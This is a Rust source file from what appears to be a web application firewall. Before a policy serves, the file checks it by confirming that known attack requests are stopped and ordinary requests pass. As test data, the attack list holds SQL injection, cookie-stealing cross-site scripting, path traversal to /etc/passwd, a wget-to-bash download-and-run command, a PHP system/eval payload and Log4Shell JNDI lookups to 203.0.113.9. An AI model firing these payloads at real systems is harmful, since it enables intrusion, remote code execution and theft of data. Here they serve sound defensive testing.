//! Canaries: attacks that every policy must stop and ordinary requests that it must let pass, tried before
//! the policy serves. A rule set that loads and does not protect is worse than none, as nobody notices.

use std::net::{Ipv4Addr, SocketAddr};

use bytes::Bytes;
use palisade_waf::{Completeness, RequestOrigin, RuleSet, Transaction, Verdict};

/// A policy that does not do what a WAF is for.
#[derive(Debug, thiserror::Error)]
pub enum CanaryError {
    /// An attack passes.
    #[error(
        "the policy would let a known attack pass ({attack}): an exclusion, a threshold or a SecLang file takes too \
         much away. Limit exclusions to rules and targets (rules, targets) and to a path; to watch without blocking \
         use mode = \"detection-only\"; to switch the WAF off for the route use mode = \"off\""
    )]
    AttackPasses {
        /// The canary.
        attack: &'static str,
    },
    /// An ordinary request is stopped.
    #[error(
        "the policy would stop an ordinary request ({request}): rule {rule} objects. Lower the paranoia level, raise \
         the threshold, or mend the SecLang file that adds the rule"
    )]
    OrdinaryStopped {
        /// The canary.
        request: &'static str,
        /// The rule that stopped it.
        rule: u64,
    },
}

struct Canary {
    name: &'static str,
    method: &'static str,
    uri: &'static str,
    headers: &'static [(&'static str, &'static str)],
    body: &'static str,
}

const FORM: &[(&str, &str)] = &[("content-type", "application/x-www-form-urlencoded")];
const JSON: &[(&str, &str)] = &[("content-type", "application/json")];

/// Each scores far above the usual thresholds.
const ATTACKS: &[Canary] = &[
    Canary {
        name: "SQL injection in a query",
        method: "GET",
        uri: "/canary?probe=1%27%20UNION%20SELECT%20username,password%20FROM%20information_schema.tables--%20-",
        headers: &[],
        body: "",
    },
    Canary {
        name: "SQL injection in a form",
        method: "POST",
        uri: "/canary",
        headers: FORM,
        body: "probe=1%27+OR+%271%27%3D%271%27%3B+DROP+TABLE+users%3B+SELECT+sleep(10)--+-",
    },
    Canary {
        name: "cross-site scripting in a query",
        method: "GET",
        uri: "/canary?probe=%3Cscript%3Ealert(document.cookie)%3C/script%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
        headers: &[],
        body: "",
    },
    Canary {
        name: "cross-site scripting in JSON",
        method: "POST",
        uri: "/canary",
        headers: JSON,
        body: r#"{"probe":"<script>alert(document.cookie)</script><svg onload=alert(1)>"}"#,
    },
    Canary {
        name: "path traversal",
        method: "GET",
        uri: "/canary?probe=../../../../../../etc/passwd",
        headers: &[],
        body: "",
    },
    Canary {
        name: "shell command injection",
        method: "GET",
        uri: "/canary?probe=%3Bcat%20/etc/passwd%3Bwget%20http://203.0.113.9/x.sh%20-O-%7Cbash",
        headers: &[],
        body: "",
    },
    Canary {
        name: "PHP code injection",
        method: "POST",
        uri: "/canary",
        headers: FORM,
        body: "probe=%3C%3Fphp+system%28%24_GET%5B%27c%27%5D%29%3B+eval%28base64_decode%28%24x%29%29%3B+%3F%3E",
    },
    Canary {
        name: "Log4Shell in a header",
        method: "GET",
        uri: "/canary",
        headers: &[
            ("referer", "${jndi:ldap://203.0.113.9/x}"),
            ("x-api-version", "${jndi:ldap://203.0.113.9/x}"),
        ],
        body: "",
    },
];

/// As plain as requests come; they pass at every paranoia level.
const ORDINARY: &[Canary] = &[
    Canary {
        name: "a page",
        method: "GET",
        uri: "/",
        headers: &[],
        body: "",
    },
    Canary {
        name: "a query",
        method: "GET",
        uri: "/search?page=2",
        headers: &[],
        body: "",
    },
    Canary {
        name: "a form",
        method: "POST",
        uri: "/login",
        headers: FORM,
        body: "user=alice&remember=yes",
    },
    Canary {
        name: "JSON",
        method: "POST",
        uri: "/items",
        headers: JSON,
        body: r#"{"name":"lamp","count":3}"#,
    },
];

/// Tries all canaries.
pub(super) fn prove(rules: &RuleSet) -> Result<(), CanaryError> {
    for attack in ATTACKS {
        if stopped_by(rules, attack).is_none() {
            return Err(CanaryError::AttackPasses { attack: attack.name });
        }
    }
    for request in ORDINARY {
        if let Some(rule) = stopped_by(rules, request) {
            return Err(CanaryError::OrdinaryStopped {
                request: request.name,
                rule,
            });
        }
    }
    Ok(())
}

/// The rule that stops the request, or would if the engine were On.
fn stopped_by(rules: &RuleSet, canary: &Canary) -> Option<u64> {
    let mut transaction = rules.transaction(RequestOrigin {
        id: "canary".to_owned(),
        unix_micros: 0,
        utc_offset_seconds: 0,
    });
    let verdict = run(&mut transaction, canary);
    match verdict {
        Verdict::Interrupted(interruption) => Some(interruption.rule_id),
        Verdict::Pass => transaction
            .matched_rules()
            .iter()
            .find(|rule| rule.disruptive)
            .map(|rule| rule.id),
    }
}

fn run(transaction: &mut Transaction, canary: &Canary) -> Verdict {
    let client = SocketAddr::from((Ipv4Addr::new(192, 0, 2, 1), 50_000));
    let server = SocketAddr::from((Ipv4Addr::new(192, 0, 2, 2), 443));
    transaction.connection(client, server);
    transaction.request_line(canary.method.as_bytes(), canary.uri.as_bytes(), b"HTTP/1.1");
    let length = canary.body.len().to_string();
    let common = [
        ("host", "canary.example"),
        (
            "user-agent",
            "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
        ),
        ("accept", "text/html,application/json"),
    ];
    for (name, value) in common.iter().chain(canary.headers) {
        transaction.add_request_header(name.as_bytes(), value.as_bytes());
    }
    if !canary.body.is_empty() {
        transaction.add_request_header(b"content-length", length.as_bytes());
    }
    match transaction.request_headers() {
        Verdict::Pass => {
            transaction.request_body(Bytes::from_static(canary.body.as_bytes()), Completeness::Complete)
        }
        stopped => stopped,
    }
}
